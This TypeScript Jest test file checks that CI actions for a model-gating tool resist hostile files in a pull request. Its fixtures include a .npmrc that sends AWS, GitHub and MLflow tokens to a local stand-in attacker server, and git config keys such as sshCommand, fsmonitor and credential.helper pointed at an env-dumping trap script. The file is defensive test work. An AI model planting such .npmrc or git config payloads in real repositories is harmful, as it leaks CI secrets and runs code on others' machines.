import { existsSync } from 'node:fs';
import { chmod, writeFile } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { afterEach, expect, it } from '@jest/globals';
import { runStep } from '@sluice/testing/action.ts';
import { createRepository, type TestRepository } from '@sluice/testing/repository.ts';
import { temporaryFolder } from '@sluice/testing/temporary.ts';

/*
 * Files that a pull request brings, or that somebody left in the checkout, choose neither what runs in a step nor who gets
 * its secrets.
 */

const PREDICTIONS = 'id,label,prediction\n1,1,1\n2,0,0\n';
const GATE = {
  model: 'flight',
  predictions: 'p.csv',
  rules: '- {metric: accuracy, direction: higher, min: 0.1}',
  comment: 'never',
};

const servers: Server[] = [];
const repositories: TestRepository[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) server.close();
  for (const repository of repositories.splice(0)) await repository.remove();
});

async function checkout(files: Readonly<Record<string, string>>): Promise<TestRepository> {
  const repository = await createRepository(files);
  repositories.push(repository);
  return repository;
}

/** A server of the attacker: keeps what it was sent and knows nothing. */
async function recorder(): Promise<{
  origin: string;
  seen: { path: string; headers: IncomingHttpHeaders }[];
}> {
  const seen: { path: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((request, response) => {
    seen.push({ path: request.url ?? '', headers: request.headers });
    response.writeHead(404).end();
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

it.each([
  ['validate-data', { data: 'p.csv' }],
  ['evaluate-gate', GATE],
] as const)(
  '%s fetches DuckDB without the .npmrc of the checkout',
  async (action, inputs) => {
    const attacker = await recorder();
    const { workspace } = await checkout({
      'p.csv': PREDICTIONS,
      'package.json': '{}',
      '.npmrc': [
        `@duckdb:registry=${attacker.origin}/\${AWS_SECRET_ACCESS_KEY}/\${INPUT_GITHUB-TOKEN}/`,
        `//${attacker.origin.slice('http://'.length)}/:_authToken=\${MLFLOW_TRACKING_TOKEN}`,
      ].join('\n'),
    });
    // A tool cache below the checkout: npm looks for a project in the folders above it, too.
    const step = await runStep(action, {
      workspace,
      inputs,
      env: {
        RUNNER_TOOL_CACHE: `${workspace}/.tools`,
        SLUICE_DUCKDB_PATH: '',
        npm_config_cache: await temporaryFolder('npm'),
        npm_config_registry: 'http://127.0.0.1:9/',
        npm_config_fetch_retries: '0',
        AWS_SECRET_ACCESS_KEY: 'aws-secret',
        MLFLOW_TRACKING_TOKEN: 'mlflow-secret',
      },
    });
    expect(step.outputs['reason-code']).toBe('service-unavailable');
    expect(step.stdout).toContain('npm could not fetch @duckdb');
    expect(attacker.seen).toEqual([]);
  },
  60_000,
);

/** A program that tells what it was given, should anything run it. */
async function trap(repository: TestRepository): Promise<{ program: string; ran: () => boolean }> {
  const [program, trace] = ['trap.sh', 'trace'].map((name) => path.join(repository.root, name)) as [
    string,
    string,
  ];
  await writeFile(program, `#!/bin/sh\nenv > '${trace}'\nexit 1\n`);
  await chmod(program, 0o755);
  return { program, ran: () => existsSync(trace) };
}

it('evaluate-gate takes no files of a pull request for a repository', async () => {
  const repository = await checkout({});
  const { program, ran } = await trap(repository);
  await repository.write({
    'models/flight/p.csv': PREDICTIONS,
    'models/flight/HEAD': 'ref: refs/heads/main\n',
    'models/flight/objects/x': '',
    'models/flight/refs/x': '',
    'models/flight/config': `[core]\n\tbare = false\n\tworktree = .\n\tsshCommand = ${program}\n\tfsmonitor = ${program}\n[remote "origin"]\n\turl = ssh://x.invalid/y\n`,
  });
  await repository.commit('Add files that look like a bare repository');
  // As actions/checkout leaves it.
  const workspace = await repository.clone();
  const step = await runStep('evaluate-gate', {
    workspace,
    inputs: { ...GATE, 'working-directory': 'models/flight' },
  });
  expect(step.outputs['decision']).toBe('pass');
  expect(ran()).toBe(false);
});

it.each([
  ['core.sshCommand', 'ssh://x.invalid/y'],
  ['credential.helper', 'http://127.0.0.1:9/x'],
  ['core.gitProxy', 'git://127.0.0.1:9/x'],
  ['remote.origin.receivepack', ''],
  ['remote.origin.uploadpack', ''],
  ['core.fsmonitor', ''],
])('register-model does not run %s of .git/config', async (key, url) => {
  const repository = await checkout({
    'out/model': 'M',
    'out/metrics.json': '{"auc":0.9}',
    'sluice.yaml': `version: 1
model: flight
train: {model-path: out/model, metrics: out/metrics.json}
gate: {rules: [{metric: auc, direction: higher, min: 0.5}]}
registry: {type: git, store: 'dir:../store'}
`,
  });
  const { workspace } = repository;
  const { program, ran } = await trap(repository);
  const gate = await runStep('evaluate-gate', { workspace, inputs: { comment: 'never' } });
  expect(gate.outputs['decision']).toBe('pass');
  await repository.git('config', key, key === 'credential.helper' ? `!${program}` : program);
  await repository.git('config', 'protocol.allow', 'always');
  if (url !== '') await repository.git('remote', 'set-url', 'origin', url);
  const step = await runStep('register-model', { workspace, env: { GIT_CONFIG_GLOBAL: '/dev/null' } });
  expect(step.outputs['reason-code']).toMatch(
    url === '' ? /^ok$/ : /^(?:bad-config|no-permission|service-unavailable)$/,
  );
  expect(ran()).toBe(false);
});
